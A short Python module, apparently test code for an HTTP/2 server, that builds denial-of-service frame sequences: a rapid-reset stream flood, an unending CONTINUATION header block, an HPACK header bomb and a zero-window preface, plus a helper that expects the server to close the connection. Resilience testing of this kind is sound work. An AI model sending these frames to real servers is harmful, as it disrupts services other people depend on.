"""What peers do to an HTTP/2 server to cost it more than it costs them. A block is that of a request which it would serve."""
import struct

from h2 import CANCEL, CONTINUATION, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, Closed, frame, literal

INITIAL_WINDOW_SIZE = 4
PREFACE_WITHOUT_WINDOWS = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))  # of streams: nothing may be sent on them


def rapid_resets(block):
    for stream in range(1, 40000, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def continuations(block):
    """A header block that never ends."""
    yield frame(HEADERS, 0, 1, block)
    for _ in range(100000):
        yield frame(CONTINUATION, 0, 1, literal("x", "y"))


def header_bomb(block):
    """One entry of 4 KB in the dynamic table, then one byte a reference: 16 KB that mean 64 MB."""
    return frame(HEADERS, END_HEADERS, 1, (block + literal("x-bomb", "b" * 4000, indexed=True) + b"\xbe" * 12000)[:16384])


def send_until_closed(connection, frames):
    """The server has to hang up, be it when all has been sent."""
    try:
        for data in frames:
            connection.send(data)
    except Closed:
        pass
    connection.until_closed()
